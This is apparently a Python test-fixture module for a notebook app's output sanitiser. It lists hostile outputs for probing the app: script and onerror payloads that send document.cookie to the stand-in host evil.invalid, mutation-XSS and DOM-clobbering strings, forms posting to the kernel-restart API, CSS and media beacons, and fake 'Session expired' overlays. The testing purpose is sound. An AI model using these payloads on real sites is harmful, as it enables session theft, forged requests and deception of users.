"""Hostile outputs: what an output shown on the notebook page tries, to navigate the page,
run script in its origin, read its cookie, send a request elsewhere, or cover the page's
own controls.

Each :class:`Hostile` is one output (HTML, Markdown or a stream) with what to click in it
once it is shown; :mod:`.hostile_page` shows each on a real page and probes it.  The other
site is ``http://evil.invalid`` (a name that never resolves; the browser context answers
it), and every URL on it names the output that asked for it.
"""

from __future__ import annotations

from dataclasses import dataclass

#: The other site. Requests to it are recorded (and answered) by the browser context.
EVIL = "http://evil.invalid"

#: A 1×1 transparent PNG, for image maps.
_PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk"
    "YAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


@dataclass(frozen=True)
class Hostile:
    """One hostile output: ``source`` (``{evil}`` and ``{kid}`` are filled in) shown as
    ``mime`` (``stream`` prints it), and a CSS selector of what a user would click in it.
    A ``link`` stays a link: a click on it opens the other site in a new tab."""

    name: str
    source: str
    mime: str = "text/html"
    click: str | None = None
    link: bool = False

    @property
    def shown(self) -> str:
        """What its cell prints after it."""
        return f"shown {self.name}"

    def code(self, kid: str) -> str:
        """The cell that shows it, marked with its name, then prints :attr:`shown`."""
        src = self.source.replace("{evil}", f"{EVIL}/{self.name}").replace("{kid}", kid)
        if self.mime == "stream":
            body = f"print({src!r})"
        else:
            body = f"display({{{self.mime!r}: {src!r}}}, raw=True)"
        return f"# hostile[{self.name}]\n{body}\nprint({self.shown!r})"


def _svg(inner: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="160" height="30">{inner}</svg>'


_TEXT = '<text x="4" y="20">continue</text>'
_COVER = "position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff"

HOSTILE: tuple[Hostile, ...] = (
    # -- navigation without a click
    Hostile("meta-refresh", '<meta http-equiv="refresh" content="0;url={evil}">'),
    Hostile(
        "markdown-meta",
        'Results\n\n<meta http-equiv="refresh" content="0;url={evil}">',
        "text/markdown",
    ),
    Hostile("base-href", '<base href="{evil}/"><img src="relative.png" alt="">'),
    Hostile(
        "iframe-srcdoc",
        "<iframe srcdoc=\"<meta http-equiv='refresh' content='0;url={evil}'>\"></iframe>",
    ),
    Hostile("iframe-src", '<iframe src="{evil}"></iframe>'),
    Hostile("object", '<object data="{evil}" type="text/html"></object>'),
    Hostile("embed", '<embed src="{evil}" type="text/html">'),
    Hostile(
        "svg-foreignobject",
        _svg(
            '<foreignObject width="160" height="30"><div xmlns="http://www.w3.org/1999/xhtml">'
            '<meta http-equiv="refresh" content="0;url={evil}"><a href="{evil}">continue</a>'
            "</div></foreignObject>"
        ),
        click="a",
    ),
    # -- navigation on a click
    Hostile("link-top", '<a href="{evil}" target="_top">continue</a>', click="a", link=True),
    Hostile("link-parent", '<a href="{evil}" target="_parent">continue</a>', click="a", link=True),
    Hostile("link-self", '<a href="{evil}">continue</a>', click="a", link=True),
    Hostile(
        "link-blank-opener",
        '<a href="{evil}" target="_blank" rel="opener">continue</a>',
        click="a",
        link=True,
    ),
    Hostile(
        "image-map",
        f'<img src="{_PIXEL}" width="120" height="24" usemap="#m" alt="continue">'
        '<map name="m"><area shape="default" href="{evil}" alt="continue"></map>',
        click="img",
        link=True,
    ),
    Hostile("svg-link", _svg(f'<a href="{{evil}}">{_TEXT}</a>'), click="text", link=True),
    Hostile(
        "svg-xlink",
        _svg(f'<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{{evil}}">{_TEXT}</a>'),
        click="text",
        link=True,
    ),
    Hostile(
        "svg-animate",
        _svg(f'<a><animate attributeName="href" values="{{evil}}" dur="1s"/>{_TEXT}</a>'),
        click="text",
    ),
    Hostile(
        "svg-set", _svg(f'<a><set attributeName="href" to="{{evil}}"/>{_TEXT}</a>'), click="text"
    ),
    Hostile(
        "mathml-link",
        '<math><mtext><a href="{evil}">continue</a></mtext></math>',
        click="a",
        link=True,
    ),
    Hostile("markdown-link", "[continue]({evil})", "text/markdown", click="a", link=True),
    Hostile("latex-href", r"$\href{{evil}}{continue} \url{{evil}}$", "text/latex", click="a"),
    Hostile(
        "svg-image-output",
        _svg(f'<a href="{{evil}}">{_TEXT}</a><script>window.__pwned="svg-image"</script>'),
        "image/svg+xml",
        click="img",
    ),
    Hostile(
        "stream-link", "\x1b]8;;{evil}\x1b\\continue\x1b]8;;\x1b\\", "stream", click="a", link=True
    ),
    Hostile(
        "form-other-site",
        '<form action="{evil}" method="post"><input name="q" value="1">'
        "<button>continue</button></form>",
        click="button",
    ),
    Hostile(
        "form-own-api",
        '<form action="/api/kernels/{kid}/restart" method="post"><button>continue</button></form>',
        click="button",
    ),
    # -- script in the page's origin (a script that runs sets window.__pwned, sends the
    #    cookie away and leaves)
    Hostile(
        "script", "<script>window.__pwned='script';location='{evil}?'+document.cookie</script>"
    ),
    Hostile(
        "img-onerror",
        "<img src=x onerror=\"window.__pwned='img-onerror';location='{evil}?'+document.cookie\">",
    ),
    Hostile("svg-onload", "<svg onload=\"window.__pwned='svg-onload'\"></svg>"),
    Hostile(
        "onclick", "<button onclick=\"window.__pwned='onclick'\">continue</button>", click="button"
    ),
    Hostile(
        "javascript-link",
        "<a href=\"javascript:window.__pwned='javascript-link'\">continue</a>",
        click="a",
    ),
    Hostile(
        "svg-javascript-link",
        _svg(f"<a href=\"javascript:window.__pwned='svg-javascript-link'\">{_TEXT}</a>"),
        click="text",
    ),
    Hostile(
        "mathml-mxss",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        "onerror=window.__pwned='mathml-mxss'&gt;\"></mglyph></table></mtext></math>",
    ),
    Hostile(
        "dom-clobbering",
        '<img name="createElement" alt=""><img name="getElementById" alt="">'
        '<form name="querySelector"></form>',
    ),
    # -- requests to the other site (beacons)
    Hostile(
        "css-beacons",
        '<div style="background-image:url({evil}/bg)">x</div><style>@import url({evil}/css);'
        "@font-face{font-family:beacon;src:url({evil}/font)} .b{font-family:beacon}</style>"
        '<span class="b">x</span>',
    ),
    Hostile(
        "media-beacons",
        '<video poster="{evil}/poster" src="{evil}/video"></video><audio src="{evil}/audio" '
        'autoplay></audio><link rel="stylesheet" href="{evil}/link">',
    ),
    # -- covering or hiding the page's own controls
    Hostile(
        "style-hide",
        "<style>.topbar, #input-cell, .cell pre.code { display: none !important }</style>",
    ),
    Hostile("style-body", "<style>body::after{content:'';" + _COVER + "}</style>"),
    Hostile(
        "markdown-style",
        "Results\n\n<style>.topbar{display:none !important}</style>",
        "text/markdown",
    ),
    Hostile("fixed-overlay", f'<div style="{_COVER}">Session expired</div>'),
    Hostile(
        "popover",
        '<button popovertarget="p" popovertargetaction="show">continue</button>'
        f'<div id="p" popover="manual" style="{_COVER};max-width:none;max-height:none;margin:0">'
        "Session expired</div>",
        click="button",
    ),
    Hostile(
        "dialog-command",
        '<button commandfor="d" command="show-modal">continue</button>'
        '<dialog id="d">Session expired</dialog>',
        click="button",
    ),
)
